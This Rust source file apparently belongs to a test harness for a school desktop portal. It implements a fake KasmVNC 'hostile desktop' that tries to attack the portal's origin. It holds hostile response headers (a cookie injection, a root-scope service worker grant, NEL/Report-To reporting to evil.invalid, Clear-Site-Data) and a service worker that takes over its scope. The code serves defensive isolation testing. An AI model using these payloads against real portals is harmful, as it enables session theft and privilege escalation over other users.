//! A hostile desktop: what a student can serve once she replaces her desktop's web server.
//!
//! Security rule 8 says anything a desktop serves is hostile to everyone but its owner. This
//! is that attacker, as a [`crate::Behaviour`] of the fake KasmVNC: it still does everything
//! the normal fake does (Basic Auth, KasmVNC's WebSocket rules, RFB greeting and echo), but
//! its client page runs attacks against whoever opens it through the portal, and every
//! response carries headers that would hurt the portal's origin if they reached the browser.
//!
//! The page writes a JSON report into `<pre id="results">` and sets `document.title` to
//! `attacks-done` when every attack has finished (each has a timeout, so it always finishes).
//! An attack counts as `succeeded` only when the page saw it reach its goal; blind attacks
//! (a form POST whose answer is unreadable) report `false` and leave the proof to the test
//! (e.g. the store still has the attacker as a student).

use std::time::Duration;

/// Headers a hostile desktop sends on every response besides `Clear-Site-Data`: each one
/// would act on the portal's origin (or the whole site) if the portal passed it through.
pub const HOSTILE_HEADERS: &[(&str, &str)] = &[
    // Lets a service worker script under /desktop/{id}/ claim the whole portal origin.
    ("Service-Worker-Allowed", "/"),
    ("Set-Cookie", "evil=1; Path=/"),
    (
        "NEL",
        r#"{"report_to":"evil","max_age":31536000,"include_subdomains":true,"success_fraction":1.0}"#,
    ),
    (
        "Report-To",
        r#"{"group":"evil","max_age":31536000,"include_subdomains":true,"endpoints":[{"url":"https://evil.invalid/report"}]}"#,
    ),
    ("Alt-Svc", r#"h2=":443""#),
    ("Strict-Transport-Security", "max-age=31536000"),
];

/// Signs the visitor out of the origin (and, in Chromium, the site) that served it.
pub const CLEAR_SITE_DATA: (&str, &str) = ("Clear-Site-Data", r#""cookies""#);

/// How a hostile fake attacks; what the attacker knows beforehand is baked into its page.
#[derive(Clone, Debug)]
pub struct HostileSetup {
    /// The attacker's username: the page tries to make this account an administrator.
    pub attacker: String,
    /// Another user's desktop id: the page tries to open its WebSocket. The fake refuses
    /// upgrades whose path names this desktop, so a WebSocket that opens there cannot be
    /// the fake itself answering a proxied path: it must be the other desktop.
    pub other_desktop: String,
    /// Send `Clear-Site-Data: "cookies"` too (on by default). Against a portal that passes
    /// headers through, it signs the victim out before the other attacks run; switch it off
    /// to see what those attacks would do on their own.
    pub clear_site_data: bool,
    /// Longest time one attack may take before it is reported as failed.
    pub attack_timeout: Duration,
}

impl HostileSetup {
    /// An attacker `attacker` who goes for desktop `other_desktop`; all headers, 5 s per attack.
    pub fn new(attacker: impl Into<String>, other_desktop: impl Into<String>) -> Self {
        Self {
            attacker: attacker.into(),
            other_desktop: other_desktop.into(),
            clear_site_data: true,
            attack_timeout: Duration::from_secs(5),
        }
    }

    /// The hostile headers this fake adds to every response, the WebSocket 101 included.
    pub fn headers(&self) -> Vec<(&'static str, &'static str)> {
        let mut headers = HOSTILE_HEADERS.to_vec();
        if self.clear_site_data {
            headers.push(CLEAR_SITE_DATA);
        }
        headers
    }

    /// Whether a WebSocket upgrade to `path` names the other desktop (refused with 404).
    pub fn refuses_websocket(&self, path: &str) -> bool {
        let file = path.split('?').next().unwrap_or_default();
        file.split('/').any(|segment| segment == self.other_desktop)
    }

    /// The attack page. `portal_origin_hint` is used only when the page cannot discover the
    /// portal's origin itself (no `ancestorOrigins`, no referrer): a real attacker knows her
    /// school's portal URL anyway.
    pub fn page(&self, portal_origin_hint: Option<&str>) -> String {
        let config = serde_json::json!({
            "attacker": self.attacker,
            "otherDesktop": self.other_desktop,
            "portalHint": portal_origin_hint,
            "timeoutMs": u64::try_from(self.attack_timeout.as_millis()).unwrap_or(u64::MAX),
        });
        // JSON is valid JS; `<` escaped so a value cannot close the script element.
        let config = config.to_string().replace('<', "\\u003c");
        ATTACK_PAGE.replace("__CONFIG__", &config)
    }
}

/// A service worker that records itself: it takes over at once and answers `…/__hostile_sw`
/// with its scope, so anyone can see which origin it captured.
pub const SERVICE_WORKER_JS: &str = r#"// Hostile desktop's service worker.
"use strict";
self.addEventListener("install", function () { self.skipWaiting(); });
self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener("fetch", function (e) {
  if (new URL(e.request.url).pathname.endsWith("/__hostile_sw")) {
    e.respondWith(new Response(JSON.stringify({ hostile_sw: self.registration.scope }),
      { headers: { "Content-Type": "application/json" } }));
  }
});
"#;

/// The attack page; `__CONFIG__` becomes the JSON from [`HostileSetup::page`]. Plain JS, no
/// external resources.
const ATTACK_PAGE: &str = include_str!("hostile_page.html");

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn config_is_baked_in_and_cannot_break_out_of_the_script() {
        let setup = HostileSetup::new("mal</script>lory", "bob-desk");
        let page = setup.page(Some("http://127.0.0.1:1"));
        assert!(!page.contains("__CONFIG__"));
        assert!(!page.contains("mal</script>"), "config escaped");
        assert!(page.contains(r#""otherDesktop":"bob-desk""#), "{page}");
        assert!(page.contains(r#""portalHint":"http://127.0.0.1:1""#));
        assert!(page.contains(r#""timeoutMs":5000"#));
    }

    #[test]
    fn only_upgrades_naming_the_other_desktop_are_refused() {
        let setup = HostileSetup::new("mallory", "bob-desk");
        assert!(setup.refuses_websocket("/desktop/bob-desk/websockify"));
        assert!(setup.refuses_websocket("/bob-desk?x=1"));
        assert!(!setup.refuses_websocket("/websockify"));
        assert!(!setup.refuses_websocket("/desktop/bob-desktop/websockify"));
        assert!(!setup.refuses_websocket("/websockify?path=bob-desk"));
    }

    #[test]
    fn clear_site_data_can_be_left_out() {
        let mut setup = HostileSetup::new("m", "o");
        assert!(setup.headers().contains(&CLEAR_SITE_DATA));
        setup.clear_site_data = false;
        assert!(!setup.headers().contains(&CLEAR_SITE_DATA));
        assert_eq!(setup.headers().len(), HOSTILE_HEADERS.len());
    }
}
